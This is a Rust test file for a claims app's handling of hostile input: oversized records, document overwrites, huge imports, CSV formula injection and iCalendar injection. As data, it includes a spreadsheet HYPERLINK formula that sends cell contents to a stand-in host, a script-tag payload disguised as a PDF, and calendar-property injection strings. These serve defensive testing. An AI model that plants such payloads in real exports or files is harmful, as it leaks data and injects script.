//! Hostile input, natively: what an attacker can put in a file the app
//! imports, a record it stores, or a document it reads, and what the app
//! does with it. The browser side (IndexedDB, the pages, the worker) is in
//! `tests/browser/hostile_input.rs`, the end-to-end side in
//! `tests/e2e/hostile.test.mjs`. docs/testing.md lists them all.

use chrono::{DateTime, FixedOffset};
use cpor_desk::domain::claim::{Claim, DocumentRef, PartnerOrgRef, ProductLine, Status};
use cpor_desk::domain::dashboard::sample_claims;
use cpor_desk::domain::finding::Code;
use cpor_desk::domain::intake::{
    self, MAX_CLAIM_BYTES, MAX_FIELD_CHARS, MAX_IMPORT_CLAIMS, MAX_JSON_FILE_BYTES, MAX_NOTE_CHARS,
    QUARANTINE_PREVIEW_BYTES,
};
use cpor_desk::domain::policy::Policy;
use cpor_desk::domain::roles::{Actor, UserRole};
use cpor_desk::domain::status::{Event, apply_event};
use cpor_desk::storage::export::{ImportReport, import_all};
use cpor_desk::storage::import::ExportReader;
use cpor_desk::storage::memory::MemoryStore;
use cpor_desk::storage::{StoredDocument, SyncAdapter, block_on, encode_claim};
use serde_json::json;

fn now() -> DateTime<FixedOffset> {
    DateTime::parse_from_rfc3339("2026-11-23T09:00:00+01:00").unwrap()
}

fn partner() -> Actor {
    Actor::partner("northwind", UserRole::IncentivesAdmin, "Ada")
}

/// A claim that passes every check: the dashboard's first sample (a draft
/// of Northwind for Contoso, Teams).
fn claim(id: &str) -> Claim {
    let org = PartnerOrgRef {
        id: "northwind".into(),
        name: "Northwind Traders".into(),
    };
    Claim {
        id: id.into(),
        name: format!("Claim {id}"),
        ..sample_claims(1, &org, now()).remove(0)
    }
}

fn pdf_doc(id: &str, body: &[u8]) -> StoredDocument {
    StoredDocument {
        id: id.into(),
        name: format!("{id}.pdf"),
        media_type: "application/pdf".into(),
        bytes: [b"%PDF-1.7\n".as_slice(), body].concat(),
    }
}

fn export_file(claims: &[serde_json::Value], documents: &[StoredDocument]) -> String {
    serde_json::to_string(&json!({
        "format": "cpor-desk-export",
        "schemaVersion": 1,
        "claims": claims,
        "documents": documents,
    }))
    .unwrap()
}

fn import(store: &MemoryStore, text: &str) -> ImportReport {
    block_on(import_all(store, text)).unwrap().0
}

// ------------------------------------------------ 1. a poison claim

/// a JSON import with one claim whose name is 20 MB (the attack used
/// 100 MB) said "2 new"; now the poison claim goes to the quarantine with
/// its reason and only the good claim is stored.
#[test]
fn a_poison_claim_in_an_export_file_is_quarantined_not_stored() {
    let mut poison = claim("poison");
    poison.name = "A".repeat(20 * 1024 * 1024);
    let text = export_file(
        &[json!(claim("good")), serde_json::to_value(&poison).unwrap()],
        &[],
    );
    let store = MemoryStore::default();
    let report = import(&store, &text);
    assert_eq!((report.added, report.quarantined), (1, 1));
    assert_eq!(report.refused.len(), 1);
    assert_eq!(report.refused[0].0, "import:poison");
    assert!(
        report.refused[0].1.contains("too large"),
        "{:?}",
        report.refused
    );
    let snap = block_on(store.load_all()).unwrap();
    assert_eq!(snap.claims.len(), 1);
    // Only the start of the poison record is kept in the quarantine.
    assert!(snap.quarantined[0].raw.len() <= QUARANTINE_PREVIEW_BYTES);
}

/// every field is capped, and the wizard's validators run on import:
/// a 101-character name, a 10,001-character contact name, a bad e-mail.
#[test]
fn imported_claims_pass_the_limits_and_the_wizards_validators() {
    let mut long_name = claim("long-name");
    long_name.name = "n".repeat(101);
    let mut long_contact = claim("long-contact");
    long_contact.partner_contact.name = "c".repeat(MAX_FIELD_CHARS + 1);
    let mut bad_email = claim("bad-email");
    bad_email.customer_contact.email = "not an address".into();
    let mut many_comments = claim("many-lines");
    many_comments.products = vec![ProductLine::new("teams"); 51];
    let values: Vec<_> = [
        &long_name,
        &long_contact,
        &bad_email,
        &many_comments,
        &claim("ok"),
    ]
    .iter()
    .map(|c| serde_json::to_value(c).unwrap())
    .collect();
    let store = MemoryStore::default();
    let report = import(&store, &export_file(&values, &[]));
    assert_eq!(report.added, 1);
    let reasons: Vec<(&str, &str)> = report
        .refused
        .iter()
        .map(|(k, r)| (k.as_str(), r.as_str()))
        .collect();
    assert_eq!(
        reasons,
        [
            (
                "import:long-name",
                "refused on import: name: claim_name.too_long"
            ),
            (
                "import:long-contact",
                "refused on import: partnerContact.name: text.too_long"
            ),
            (
                "import:bad-email",
                "refused on import: customerContact.email: email.format"
            ),
            (
                "import:many-lines",
                "refused on import: products: list.too_long"
            ),
        ]
    );
}

/// a poison record already stored (written by an older version, or
/// planted) is moved to the quarantine when the claims load, with only its
/// start kept, and the other claims load: the app starts.
#[test]
fn a_stored_poison_record_is_quarantined_at_load() {
    let store = MemoryStore::default();
    block_on(store.restore(claim("good"))).unwrap();
    let mut poison = claim("poison");
    poison.name = "P".repeat(20 * 1024 * 1024);
    store.insert_raw("poison", &encode_claim(&poison));
    let mut long = claim("long");
    long.customer_name = "x".repeat(MAX_FIELD_CHARS + 1);
    store.insert_raw("long", &encode_claim(&long));

    let snap = block_on(store.load_all()).unwrap();
    assert_eq!(
        snap.claims
            .iter()
            .map(|c| c.id.as_str())
            .collect::<Vec<_>>(),
        ["good"]
    );
    let q: Vec<(&str, usize)> = snap
        .quarantined
        .iter()
        .map(|q| (q.key.as_str(), q.raw.len()))
        .collect();
    assert_eq!(q[0].0, "long");
    assert!(
        snap.quarantined[0]
            .reason
            .contains("customerName: 10001 characters, at most 10000")
    );
    assert_eq!(q[1], ("poison", QUARANTINE_PREVIEW_BYTES));
    assert!(
        snap.quarantined[1]
            .reason
            .contains("too large to be a claim")
    );
    // Deleting it ("Delete this claim" in Settings) leaves the good claim.
    block_on(store.discard_quarantined("poison")).unwrap();
    assert_eq!(block_on(store.load_all()).unwrap().quarantined.len(), 1);
}

/// the app itself never writes what it would quarantine: an event
/// whose claim would pass a limit is refused with the limit's code.
#[test]
fn the_status_machine_refuses_a_claim_over_the_limits() {
    let c = claim("c");
    let policy = Policy::default();
    let comment = |text: String| Event::Comment { text };
    let ok = apply_event(
        &c,
        &comment("x".repeat(MAX_NOTE_CHARS)),
        &partner(),
        now(),
        &policy,
    );
    assert!(ok.is_ok());
    let err = apply_event(
        &c,
        &comment("x".repeat(MAX_NOTE_CHARS + 1)),
        &partner(),
        now(),
        &policy,
    )
    .unwrap_err();
    assert_eq!(err.code(), Code::TextTooLong);
    assert_eq!(err.findings()[0].field, "comments[0].text");
    // Comments within their limit still cannot make the record too large.
    let mut big = apply_event(
        &c,
        &comment("y".repeat(MAX_NOTE_CHARS)),
        &partner(),
        now(),
        &policy,
    )
    .unwrap();
    let one = big.comments[0].clone();
    let size = |c: &Claim| serde_json::to_vec(c).unwrap().len();
    let before = size(&big);
    big.comments.push(one.clone());
    let each = size(&big) - before;
    let room = (MAX_CLAIM_BYTES - size(&big)) / each;
    big.comments.extend(std::iter::repeat_n(one, room));
    assert!(serde_json::to_vec(&big).unwrap().len() <= MAX_CLAIM_BYTES);
    let err = apply_event(
        &big,
        &comment("z".repeat(MAX_NOTE_CHARS)),
        &partner(),
        now(),
        &policy,
    )
    .unwrap_err();
    assert_eq!(err.code(), Code::ClaimTooLarge);
}

// ----------------------------------------- 4. silent document overwrite

/// a file holding only a document with an existing id replaced the
/// stored PoE bytes ("1 documents"). Now the bytes here are kept and the
/// conflict is listed; the same bytes count as unchanged.
#[test]
fn an_import_never_replaces_document_bytes() {
    let store = MemoryStore::default();
    let original = pdf_doc("d1", b"the real statement of work");
    block_on(store.put_document(original.clone())).unwrap();
    let evil = StoredDocument {
        bytes: b"%PDF-1.7\n<h1>EVIL replacement</h1>".to_vec(),
        ..original.clone()
    };
    let report = import(&store, &export_file(&[], &[evil]));
    assert_eq!(report.documents, 0);
    assert_eq!(report.document_conflicts, ["d1"]);
    assert_eq!(
        block_on(store.get_document("d1")).unwrap(),
        Some(original.clone())
    );
    let report = import(&store, &export_file(&[], &[original]));
    assert_eq!((report.documents, report.documents_unchanged), (0, 1));
}

/// the type is judged from the content (an HTML page sent as a PDF
/// is stored as the plain text it is, so it downloads as text, never as a
/// page; a program is refused; a real PDF labelled text/html is a PDF), and
/// the 20 MB limit applies on import.
#[test]
fn imported_documents_are_judged_by_content_and_size() {
    let html = StoredDocument {
        id: "html".into(),
        name: "poe.pdf".into(),
        media_type: "application/pdf".into(),
        bytes: b"<h1>EVIL replacement</h1><script>alert(1)</script>".to_vec(),
    };
    let exe = StoredDocument {
        id: "exe".into(),
        name: "poe.pdf".into(),
        media_type: "application/pdf".into(),
        bytes: b"MZ\x90\x00\x03\x00\x00\x00".to_vec(),
    };
    let mislabelled = StoredDocument {
        media_type: "text/html".into(),
        ..pdf_doc("pdf", b"fine")
    };
    let huge = pdf_doc("huge", &vec![b'x'; 20 * 1024 * 1024]);
    let empty = StoredDocument {
        bytes: Vec::new(),
        ..pdf_doc("empty", b"")
    };
    let store = MemoryStore::default();
    let report = import(
        &store,
        &export_file(&[], &[html, exe, mislabelled, huge, empty]),
    );
    assert_eq!(report.documents, 2);
    assert_eq!(
        report.documents_refused,
        [
            ("exe".to_string(), Code::PoeFileType),
            ("huge".to_string(), Code::PoeFileTooLarge),
            ("empty".to_string(), Code::PoeFileEmpty),
        ]
    );
    let media = |id: &str| {
        block_on(store.get_document(id))
            .unwrap()
            .unwrap()
            .media_type
    };
    assert_eq!(media("pdf"), "application/pdf");
    assert_eq!(media("html"), "text/plain");
    assert_eq!(block_on(store.document_ids()).unwrap(), ["html", "pdf"]);
}

/// a claim with revision 99 replaced the local claim and its
/// document list vanished ("updated"). Now a newer copy that lacks
/// documents the copy here has is kept out and listed; one that keeps them
/// replaces it.
#[test]
fn an_import_never_drops_a_claims_documents() {
    let store = MemoryStore::default();
    let mut here = claim("c1");
    here.documents = vec![DocumentRef {
        id: "d1".into(),
        name: "sow.pdf".into(),
        kind: "pdf".into(),
        ..DocumentRef::default()
    }];
    block_on(store.restore(here.clone())).unwrap();
    let mut hostile = claim("c1");
    hostile.revision = 99;
    hostile.status = Status::Draft;
    let report = import(&store, &export_file(&[json!(hostile)], &[]));
    assert_eq!(
        (report.updated, report.kept_documents.clone()),
        (0, vec!["c1".to_string()])
    );
    assert_eq!(block_on(store.load("c1")).unwrap(), Some(here.clone()));

    let mut newer = here.clone();
    newer.revision = 5;
    newer.name = "Renamed".into();
    let report = import(&store, &export_file(&[json!(newer)], &[]));
    assert_eq!(report.updated, 1);
    assert_eq!(block_on(store.load("c1")).unwrap().unwrap().name, "Renamed");
}

// ------------------------------------------------- 5. unbounded imports

/// the file's size is checked before anything is read, with the
/// limits in the message (a 600 MB file was refused as "not JSON (EOF…)").
#[test]
fn a_file_over_the_limit_is_refused_before_it_is_read() {
    let err = ExportReader::new(600 * 1024 * 1024, &Policy::default())
        .err()
        .unwrap()
        .to_string();
    assert!(err.contains("600.0 MB"), "{err}");
    assert!(err.contains("at most 100.0 MB"), "{err}");
    assert!(err.contains("100000 claims"), "{err}");
    assert!(ExportReader::new(MAX_JSON_FILE_BYTES, &Policy::default()).is_ok());
}

/// more claims than one import takes: refused whole, nothing stored
/// (1,000,000 tiny claims were imported one by one, and a closed tab left
/// 176,398 of them).
#[test]
fn too_many_claims_are_refused_whole() {
    let mut text = String::from(r#"{"format":"cpor-desk-export","schemaVersion":1,"claims":["#);
    for i in 0..=MAX_IMPORT_CLAIMS {
        if i > 0 {
            text.push(',');
        }
        text.push_str(&format!(r#"{{"id":"c{i}"}}"#));
    }
    text.push_str("]}");
    let store = MemoryStore::default();
    let err = block_on(import_all(&store, &text)).unwrap_err().to_string();
    assert!(err.contains("more than 100000 claims"), "{err}");
    let snap = block_on(store.load_all()).unwrap();
    assert!(snap.claims.is_empty() && snap.quarantined.is_empty());
}

/// the file is read in slices of any size with the same result, and
/// an error in the last slice writes nothing (all or nothing).
#[test]
fn a_file_read_in_slices_is_all_or_nothing() {
    let claims: Vec<_> = (0..40).map(|i| json!(claim(&format!("c{i}")))).collect();
    let text = export_file(&claims, &[pdf_doc("d1", b"x")]);
    for slice in [1, 7, 1000, text.len()] {
        let mut reader = ExportReader::new(text.len() as u64, &Policy::default()).unwrap();
        for part in text.as_bytes().chunks(slice) {
            reader.feed(part).unwrap();
        }
        let (batch, report, _) = reader.finish().unwrap();
        assert_eq!(
            (batch.claims.len(), batch.documents.len()),
            (40, 1),
            "{slice}"
        );
        assert_eq!(report.quarantined, 0);
    }
    let broken = &text[..text.len() - 1];
    let store = MemoryStore::default();
    let err = block_on(import_all(&store, broken))
        .unwrap_err()
        .to_string();
    assert!(err.contains("ends before its JSON does"), "{err}");
    assert!(block_on(store.load_all()).unwrap().claims.is_empty());
    assert!(block_on(store.document_ids()).unwrap().is_empty());
}

/// the limits' numbers in the messages are the constants.
#[test]
fn the_limits_in_the_messages_are_the_constants() {
    use cpor_desk::domain::finding::Locale;
    let en = Code::TextTooLong.message(Locale::En);
    assert!(
        en.contains("10,000") && en.contains("20,000") && en.contains("100"),
        "{en}"
    );
    assert_eq!(intake::MAX_FIELD_CHARS, 10_000);
    assert_eq!(intake::MAX_NOTE_CHARS, 20_000);
    let list = Code::ListTooLong.message(Locale::En);
    for n in [
        "50 products",
        "100 documents",
        "1,000 comments",
        "5,000 history",
    ] {
        assert!(list.contains(n), "{list}");
    }
    assert_eq!(
        (
            intake::MAX_PRODUCT_LINES,
            intake::MAX_DOCUMENTS,
            intake::MAX_COMMENTS,
            intake::MAX_HISTORY
        ),
        (50, 100, 1_000, 5_000)
    );
    assert!(Code::ClaimTooLarge.message(Locale::En).contains("4 MB"));
    assert_eq!(MAX_CLAIM_BYTES, 4 * 1024 * 1024);
}

// ------------------------------------------- 3. CSV formula injection

mod csv_injection {
    use super::*;
    use cpor_desk::domain::bulk::{
        CSV_BOM, ImportContext, claims_to_csv, claims_to_csv_in, defuse_formula, parse_claims_csv,
        restore_formula,
    };
    use cpor_desk::domain::finding::Locale;
    use proptest::prelude::*;

    const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

    /// The cells of a CSV text, split here independently of the app's
    /// reader (RFC 4180: quotes doubled, quoted CR/LF kept).
    fn cells(text: &str) -> Vec<String> {
        let text = text.strip_prefix(CSV_BOM).unwrap_or(text);
        let mut out = Vec::new();
        let mut cell = String::new();
        let mut quoted = false;
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                (true, '"') => quoted = false,
                (true, c) => cell.push(c),
                (false, '"') => quoted = true,
                (false, ',') => out.push(std::mem::take(&mut cell)),
                (false, '\r') if chars.peek() == Some(&'\n') => {
                    chars.next();
                    out.push(std::mem::take(&mut cell));
                }
                (false, c) => cell.push(c),
            }
        }
        out
    }

    fn import(text: &str) -> cpor_desk::domain::bulk::CsvImport {
        let policy = Policy::default();
        let org = PartnerOrgRef {
            id: "northwind".into(),
            name: "Northwind Traders".into(),
        };
        let ctx = ImportContext::new(partner(), org, now(), &policy);
        let mut n = 0;
        parse_claims_csv(text, &ctx, &mut || {
            n += 1;
            format!("00000000-0000-4000-8000-{n:012}")
        })
    }

    fn value() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            prop::sample::select(vec![
                "=",
                "+",
                "-",
                "@",
                "\t",
                "\r",
                "'",
                "''",
                "\"",
                ",",
                "\n",
                " ",
                "=HYPERLINK(\"http://x?\"&A2,\"Click me\")",
                "SUM(1)",
                "46 8 123"
            ])
            .prop_map(str::to_string),
            "[a-zA-Z0-9åäö ]{1,6}",
            any::<String>(),
        ];
        prop::collection::vec(piece, 0..6).prop_map(|p| p.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]

        /// defusing is exactly undone, and a defused cell never
        /// starts with a character a spreadsheet takes for a formula.
        #[test]
        fn defusing_round_trips_and_leaves_no_trigger_first(v in value()) {
            let cell = defuse_formula(&v);
            prop_assert!(!cell.starts_with(TRIGGERS), "{:?}", cell);
            prop_assert_eq!(restore_formula(&cell), v.as_str());
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(300))]

        /// through a whole export and import: no exported cell starts
        /// with a trigger, and the claims come back exactly.
        #[test]
        fn exported_cells_are_safe_and_import_back_exactly(
            name in value(), customer in value(), contact in value(), phone in value(),
        ) {
            let mut c = claim("0b6f2c1e-7d1a-4c57-9a57-3f8e4b1d2a10");
            c.name = name.chars().take(100).collect();
            c.customer_name = customer;
            c.customer_contact.name = contact;
            c.partner_contact.phone = Some(phone);
            let csv = claims_to_csv(std::slice::from_ref(&c), now(), &Policy::default());
            for cell in cells(&csv) {
                prop_assert!(!cell.starts_with(TRIGGERS), "{:?}", cell);
            }
            let back = import(&csv);
            prop_assert_eq!(back.claims.len(), 1);
            let got = &back.claims[0].claim;
            prop_assert_eq!(&got.name, &c.name);
            prop_assert_eq!(&got.customer_name, &c.customer_name);
            prop_assert_eq!(&got.customer_contact.name, &c.customer_contact.name);
            // A blank phone reads back as none.
            let phone = c.partner_contact.phone.filter(|p| !p.trim().is_empty());
            prop_assert_eq!(&got.partner_contact.phone, &phone);
        }
    }

    /// the payloads of the attack, cell by cell.
    #[test]
    fn the_attack_payloads_are_written_as_text() {
        let mut c = claim("0b6f2c1e-7d1a-4c57-9a57-3f8e4b1d2a10");
        c.name = "=HYPERLINK(\"http://127.0.0.1/?\"&A2,\"Click me\")".into();
        c.customer_name = "@SUM(1+1)".into();
        c.customer_contact.name = "=1+2".into();
        c.partner_contact.name = "\tTAB".into();
        c.partner_location = "+1+1".into();
        c.tenant_id = "-2+3".into();
        c.customer_contact.phone = Some("+46 8 123 456".into());
        let csv = claims_to_csv(&[c], now(), &Policy::default());
        let row = csv.split("\r\n").nth(1).unwrap();
        for cell in [
            "\"'=HYPERLINK(\"\"http://127.0.0.1/?\"\"&A2,\"\"Click me\"\")\"",
            "'@SUM(1+1)",
            "'=1+2",
            "'\tTAB",
            "'+1+1",
            "'-2+3",
            "'+46 8 123 456",
        ] {
            assert!(row.contains(&format!(",{cell},")), "{cell} in {row}");
        }
    }

    /// a BOM first (Excel on Windows), labels in the partner's
    /// language beside the codes, and a file that keeps only the labels
    /// (in Swedish) still imports.
    #[test]
    fn labels_and_bom_and_a_labels_only_file_imports() {
        let c = claim("0b6f2c1e-7d1a-4c57-9a57-3f8e4b1d2a10");
        let csv = claims_to_csv_in(
            std::slice::from_ref(&c),
            now(),
            &Policy::default(),
            Locale::Sv,
        );
        assert!(csv.starts_with('\u{feff}'));
        let header: Vec<&str> = csv
            .split("\r\n")
            .next()
            .unwrap()
            .trim_start_matches('\u{feff}')
            .split(',')
            .collect();
        let row = cells(&csv);
        let at =
            |col: &str| row[header.len() + header.iter().position(|h| *h == col).unwrap()].clone();
        assert_eq!(at("status_label"), "Redigering");
        assert_eq!(at("solution_area_label"), "Modernt arbete och säkerhet");
        assert_eq!(at("partner_role_label"), "Använda eller konsumera");
        assert_eq!(at("product_label"), "Microsoft Teams");
        // Only the labels: the code columns dropped.
        let keep: Vec<usize> = header
            .iter()
            .enumerate()
            .filter(|(_, h)| !["status", "solution_area", "partner_role", "product"].contains(h))
            .map(|(i, _)| i)
            .collect();
        let line = |cells: &[String]| {
            keep.iter()
                .map(|&i| format!("\"{}\"", cells[i].replace('"', "\"\"")))
                .collect::<Vec<_>>()
                .join(",")
        };
        let head: Vec<String> = header.iter().map(|h| h.to_string()).collect();
        let labels_only = format!("{}\r\n{}\r\n", line(&head), line(&row[header.len()..]));
        let back = import(&labels_only);
        assert!(back.claims[0].importable, "{:?}", back.findings);
        let got = &back.claims[0].claim;
        assert_eq!(got.solution_area.as_deref(), Some("modern_work_security"));
        assert_eq!(got.partner_role.as_deref(), Some("use_or_consume"));
        assert_eq!(got.products, [ProductLine::new("teams")]);
        // Labels in any letter case and the other language work in the code column too.
        let en = csv.replace(",modern_work_security,", ",MODERN WORK AND SECURITY,");
        assert_eq!(
            import(&en).claims[0].claim.solution_area.as_deref(),
            Some("modern_work_security")
        );
    }

    /// a CSV with more than 20,000 rows is refused whole, and a huge
    /// cell is cut and reported instead of kept (a 100 MB field crashed the
    /// tab).
    #[test]
    fn a_csv_too_long_or_with_a_huge_cell_is_refused() {
        let mut text = String::from("claim_name,customer_domain,tenant_id,product\r\n");
        for i in 0..=intake::MAX_CSV_ROWS {
            text.push_str(&format!(
                "Claim {i},contoso.com,1d38bbea-e8d8-407c-9c74-bee089c92c07,teams\r\n"
            ));
        }
        let r = import(&text);
        assert!(r.claims.is_empty());
        assert_eq!(r.findings.last().unwrap().code(), Code::CsvTooManyRows);

        let huge = format!(
            "claim_name,customer_domain,tenant_id,product\r\n\"{}\",contoso.com,x,teams\r\n",
            "A".repeat(5_000_000)
        );
        let r = import(&huge);
        assert!(!r.claims[0].importable);
        assert!(r.claims[0].claim.name.len() <= intake::MAX_NOTE_CHARS);
        assert!(
            r.findings
                .iter()
                .any(|f| f.field() == "claim_name" && f.code() == Code::TextTooLong)
        );
    }
}

// ------------------------------------------------------ 6. iCalendar

/// U+2028, U+2029 and C1 controls in a name were written raw, so a
/// reader that splits lines on them saw injected properties.
#[test]
fn icalendar_text_drops_line_separators_and_c1_controls() {
    use cpor_desk::domain::bulk::deadlines_calendar;
    use cpor_desk::domain::claim::{Action, HistoryEntry};
    use cpor_desk::domain::finding::Locale;
    let mut c = claim("c1");
    c.name = "Rollout\u{2028}BEGIN:VEVENT\u{2029}SUMMARY:pwned\u{85}\u{9b}x".into();
    c.status = Status::Submitted;
    c.history.push(HistoryEntry {
        at: now().to_utc(),
        actor: partner(),
        action: Action::Submitted,
        from: Some(Status::Draft),
        to: Some(Status::Submitted),
        changes: vec![],
    });
    let cal = deadlines_calendar(&[c], now(), &Policy::default(), Locale::En);
    assert_eq!(cal.events, 1);
    for bad in ['\u{2028}', '\u{2029}', '\u{85}', '\u{9b}'] {
        assert!(!cal.text.contains(bad), "{bad:?}");
    }
    assert!(
        cal.text
            .contains("SUMMARY:Review starts: RolloutBEGIN:VEVENTSUMMARY:pwnedx")
    );
    assert_eq!(cal.text.matches("\r\nBEGIN:VEVENT\r\n").count(), 1);
    // No open deadline: no event (the app then says so, no download).
    assert_eq!(
        deadlines_calendar(&[claim("c2")], now(), &Policy::default(), Locale::En).events,
        0
    );
}

// ------------------------------------------- a batched import (Settings)

mod batched {
    use super::*;
    use cpor_desk::storage::import::BatchedImport;
    use cpor_desk::storage::memory::ImportFaults;
    use cpor_desk::storage::{Snapshot, StorageError};

    type Counting = ImportFaults<MemoryStore>;

    /// 45 valid claims and one document; `c3` is also here already at a
    /// lower revision (the file's copy replaces it).
    fn setup() -> (Counting, String, Snapshot) {
        let store = ImportFaults::new(MemoryStore::default());
        let mut here = claim("c3");
        here.name = "Kept here".into();
        block_on(store.inner.restore(here)).unwrap();
        block_on(store.inner.restore(claim("other"))).unwrap();
        let claims: Vec<_> = (0..45)
            .map(|i| {
                let mut c = claim(&format!("c{i}"));
                c.revision = 5;
                json!(c)
            })
            .collect();
        let text = export_file(&claims, &[pdf_doc("d1", b"x")]);
        let before = block_on(store.load_all()).unwrap();
        (store, text, before)
    }

    fn run(store: &Counting, text: &str, batch: usize) -> Result<ImportReport, StorageError> {
        block_on(async {
            let mut import = BatchedImport::new(store, text.len() as u64, &Policy::default())?
                .with_batch_size(batch);
            for part in text.as_bytes().chunks(500) {
                import.feed(part).await?;
            }
            import.finish().await
        })
    }

    /// the claims are written a batch at a time, each claim's copy here
    /// read once: the work grows linearly with the claims (operations
    /// counted), and the report is the same as one whole write's.
    #[test]
    fn an_import_writes_batches_and_reads_each_claim_once() {
        let (store, text, _) = setup();
        let report = run(&store, &text, 10).unwrap();
        assert_eq!((report.added, report.updated), (44, 1));
        assert_eq!(report.documents, 1);
        // 4 full batches of 10, then the last 5 with the document.
        assert_eq!(store.batches.get(), 5);
        assert_eq!(store.loads.get(), 45);
        let snap = block_on(store.load_all()).unwrap();
        assert_eq!(snap.claims.len(), 46);
        assert_eq!(
            snap.claims.iter().find(|c| c.id == "c3").unwrap().revision,
            5
        );

        let (whole, _, _) = setup();
        let whole = whole.inner;
        let (batch, report_whole, _) = {
            let mut reader = ExportReader::new(text.len() as u64, &Policy::default()).unwrap();
            reader.feed(text.as_bytes()).unwrap();
            reader.finish().unwrap()
        };
        let whole_report = block_on(cpor_desk::storage::import::commit(
            &whole,
            batch,
            report_whole,
        ))
        .unwrap();
        assert_eq!(report, whole_report);
    }

    /// Cancel after some batches were written undoes them: the claims
    /// added are gone and the one replaced is back as it was.
    #[test]
    fn cancel_undoes_the_batches_written() {
        let (store, text, before) = setup();
        block_on(async {
            let mut import = BatchedImport::new(&store, text.len() as u64, &Policy::default())
                .unwrap()
                .with_batch_size(10);
            let half = text.len() * 2 / 3;
            import.feed(&text.as_bytes()[..half]).await.unwrap();
            assert!(import.claims_saved() >= 20, "{}", import.claims_saved());
            import.cancel().await.unwrap();
        });
        assert_eq!(block_on(store.load_all()).unwrap(), before);
        assert!(block_on(store.document_ids()).unwrap().is_empty());
    }

    /// a storage failure in the middle (the third batch) or in the last
    /// batch undoes everything written before it: nothing of the file
    /// stays, and the error is the storage's.
    #[test]
    fn a_storage_failure_mid_import_leaves_nothing() {
        for fail_at in [3, 5] {
            let (store, text, before) = setup();
            store.fail_batch.set(Some(fail_at));
            let err = run(&store, &text, 10).unwrap_err();
            assert!(matches!(err, StorageError::QuotaExceeded(_)), "{err}");
            assert_eq!(store.batches.get(), fail_at);
            assert_eq!(block_on(store.load_all()).unwrap(), before, "{fail_at}");
            assert!(block_on(store.document_ids()).unwrap().is_empty());
        }
    }

    /// a file that turns out broken after some batches were written
    /// (here: it ends early) leaves nothing either.
    #[test]
    fn a_broken_file_after_some_batches_leaves_nothing() {
        let (store, text, before) = setup();
        let err = run(&store, &text[..text.len() - 1], 10).unwrap_err();
        assert!(
            err.to_string().contains("ends before its JSON does"),
            "{err}"
        );
        assert!(store.batches.get() >= 4);
        assert_eq!(block_on(store.load_all()).unwrap(), before);
    }
}
